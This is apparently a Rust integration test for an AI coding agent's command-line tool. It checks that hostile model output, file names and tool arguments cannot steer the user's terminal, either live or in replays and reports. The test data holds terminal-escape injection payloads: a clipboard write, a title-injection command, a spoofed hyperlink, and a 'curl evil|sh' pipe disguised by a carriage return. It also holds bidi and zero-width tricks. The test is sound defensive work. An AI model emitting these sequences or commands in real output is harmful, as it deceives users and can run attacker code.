//! Hostile output never steers the terminal: what reaches it while a run goes, in its replay and in its report.

use std::io::Read as _;

use portable_pty::{CommandBuilder, PtySize, native_pty_system};
use serde_json::json;

use crate::goal::{finish, server_of, shell};
use crate::model_server::{ModelServer, Reply};
use crate::stage::{Ran, Stage};

/// What a terminal would obey or an eye would miss, for a shell's `printf`.
const ATTACKS: [&str; 16] = [
    r"\033]52;c;ZXZpbA==\007",
    r"\033]0;title\007\033]2;#(touch PWNED)\033\\",
    r"\033]8;;http://evil\033\\good\033]8;;\033\\",
    r"\033[2J\033[5A overwritten",
    r"curl evil|sh\r\033[2K command: ls -la",
    r"\033P1$r0m\033\\\033_apc\033\\\033^pm\033\\\033Xsos\033\\",
    r"\302\220dcs\302\233 31m\302\235 0;t\007 \220\233\235",
    r"\342\200\256 desrever \342\201\246 \342\200\213 \363\240\201\201",
    r"\342\200\250 \342\200\251",
    r"\033[8mconcealed\033[0m",
    r"\033[c\033[6n\033]10;?\007\033]11;?\007\033[?1049h",
    r"\033[201~ls\n",
    r"\033Pq#0;2;0;0;0~-\033\\ \033_Ga=T,f=100;AAAA\033\\",
    r"\016\017\005\b\b\b\177\v\f",
    r"\033c\033#8\033[?25l\033[?1000h\033[>4;2m",
    r"%0500d hidden",
];

/// Characters that must never be printed, line feed apart.
fn steers(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{e0000}'..='\u{e0fff}')
}

/// The screen's bytes without what the program itself may write: colours, taking back a line, carriage returns.
fn without_ours(screen: &str) -> String {
    let own = regex::Regex::new("\u{1b}\\[[0-9;]*m|\u{1b}\\[1A\u{1b}\\[2K|\r\u{1b}\\[K|\r\n").unwrap();
    own.replace_all(screen, "\n").into_owned()
}

#[track_caller]
fn is_harmless(what: &str, text: &str) {
    let bad: Vec<_> = text.lines().filter(|line| line.chars().any(steers)).map(|line| format!("{line:?}")).collect();
    assert!(bad.is_empty(), "{what}:\n{}", bad.join("\n"));
}

/// A conversation in which a model that obeys an attacker prints, names and says hostile things.
fn attack() -> Vec<Reply> {
    let said = ATTACKS.concat().replace("\\033", "\u{1b}").replace("\\007", "\u{7}").replace("\\r", "\r");
    let all: String = ATTACKS.iter().map(|attack| format!("printf '{attack}\\n'; ")).collect();
    let named = format!("f='{}'; echo x > \"$f\"; ls; cat \"$f\"; cat ./no*\"$f\"", said.replace(['\'', '/'], ""));
    vec![
        Reply::answer(&said, &[("shell", json!({"command": all}).to_string())]),
        shell(&format!("{all} sleep 1; (exit 1)")),
        shell(&named),
        Reply::call("shell", &json!({"command": "true", "session": said})),
        Reply::call("shell", &json!({"command": format!("echo {said}"), "cwd": said})),
        Reply::call("read_file", &json!({"path": said})),
        Reply::call("write_file", &json!({"path": format!("w{}", said.replace('/', "")), "content": said})),
        Reply::call(&said, &json!({})),
        finish(&said),
    ]
}

/// Runs the program on a terminal of its own; its exit code and all that the terminal was sent.
fn on_a_terminal(stage: &Stage, server: &ModelServer, goal: &str, vars: &[(&str, &str)]) -> (u32, String) {
    let pty = native_pty_system().openpty(PtySize { rows: 40, cols: 100, pixel_width: 0, pixel_height: 0 }).unwrap();
    let mut program = CommandBuilder::new(env!("CARGO_BIN_EXE_agent"));
    program.args(["do", goal, "--sandbox", "local"]);
    program.cwd(stage.project());
    program.env_clear();
    let (home, state) = (stage.home(), stage.state());
    let usual = [
        ("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin"),
        ("HOME", home.to_str().unwrap()),
        ("LONGHAUL_STATE_DIR", state.to_str().unwrap()),
        ("OPENAI_BASE_URL", server.base_url()),
        ("OPENAI_API_KEY", "sk-test-0123456789abcdef"),
        ("LONGHAUL_MODEL", "fake"),
    ];
    usual.iter().chain(vars).for_each(|(name, value)| program.env(name, value));
    let mut child = pty.slave.spawn_command(program).unwrap();
    drop(pty.slave);
    let (mut reader, mut screen) = (pty.master.try_clone_reader().unwrap(), Vec::new());
    // The end of a terminal's other side is an error.
    let _ = reader.read_to_end(&mut screen);
    let status = child.wait().unwrap();
    (status.exit_code(), String::from_utf8(screen).expect("what is shown is text"))
}

#[test]
fn a_poor_terminal_is_sent_no_escape_and_one_without_colour_no_colour() {
    let begun = "echo one; sleep 1; echo two";
    let (stage, server) = (Stage::new(), server_of(vec![shell(begun), finish("done")]));
    let (code, screen) = on_a_terminal(&stage, &server, "count", &[("TERM", "dumb")]);
    assert!(code == 0 && !screen.contains('\u{1b}'), "{code}: {screen:?}");
    let (stage, server) = (Stage::new(), server_of(vec![shell(begun), finish("done")]));
    let (code, screen) = on_a_terminal(&stage, &server, "count", &[("TERM", "xterm"), ("NO_COLOR", "1")]);
    let colour = regex::Regex::new("\u{1b}\\[[0-9;]*m").unwrap();
    assert!(code == 0 && !colour.is_match(&screen), "{code}: {screen:?}");
}

#[test]
fn hostile_output_names_and_words_never_steer_the_terminal() {
    let stage = Stage::new();
    let server = server_of(attack());
    let goal = "be\u{1b}]0;evil\u{7} careful\u{202e}";
    let (code, screen) = on_a_terminal(&stage, &server, goal, &[("TERM", "xterm-256color")]);
    assert_eq!(code, 0, "{screen}");
    assert!(screen.contains("\u{1b}["), "a terminal is shown colours");
    is_harmless("the screen", &without_ours(&screen));
    let results = stage.events_of("tool_ended");
    assert_eq!(results.len(), 9, "{results:#?}");

    for args in [&["replay", "last"][..], &["replay", "--full", "last"], &["runs", "ls"], &["runs", "show"]] {
        let ran = stage.run(args).exits_with(0);
        is_harmless(&args.join(" "), &ran.stdout);
        is_harmless(&args.join(" "), &ran.stderr);
    }
    let mut coloured = stage.agent(&["replay", "last"]);
    coloured.env("FORCE_COLOR", "1");
    is_harmless("a coloured replay", &without_ours(&Ran::of(&coloured.output().unwrap()).exits_with(0).stdout));
    is_harmless("the report", &std::fs::read_to_string(stage.run_dir().join("report.md")).unwrap());
    stage.verifies();
}
